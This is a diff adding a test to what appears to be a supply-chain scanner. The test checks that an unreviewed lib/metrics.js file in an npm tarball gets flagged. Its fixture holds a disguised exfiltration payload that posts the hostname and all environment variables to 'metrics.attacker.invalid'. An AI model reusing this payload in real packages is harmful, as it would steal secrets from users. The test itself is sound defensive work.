@@ -315,3 +315,18 @@ def test_install_hooks_in_other_shapes(py_built, npm_built, tmp_path):
                   prepo)
     assert any(f["rule_id"] == "PC101" and f["location"]["path"].endswith("egg-info/hook.py")
                for f in findings(data, "medium"))
+
+
+def test_new_file_in_a_source_controlled_directory_is_not_a_build_output(npm_built, tmp_path):
+    """lib/ is in git: a lib/ file only in the tarball, loaded by a modified lib/util.js, is code
+    nobody reviewed, not a build output."""
+    repo, tgz = npm_built
+    util = pk.member(tgz, "package/lib/util.js") + b"require('./metrics');\n"
+    metrics = (b"const os = require('os');\nconst data = JSON.stringify({h: os.hostname(), e: process.env});\n"
+               b"require('https').request({host: 'metrics.attacker.invalid', method: 'POST'}).end(data);\n")
+    bad = pk.rewrite_tar(tgz, tmp_path / tgz.name, {"package/lib/util.js": util, "package/lib/metrics.js": metrics})
+    _, data = run("release", bad, "--source", repo)
+    v = verdicts(data)
+    assert v["lib/metrics.js"]["verdict"] == "unexplained" and v["lib/util.js"]["verdict"] == "modified"
+    assert any(f["location"]["path"] == "package/lib/metrics.js" and f["severity"] == "critical"
+               for f in data["findings"])
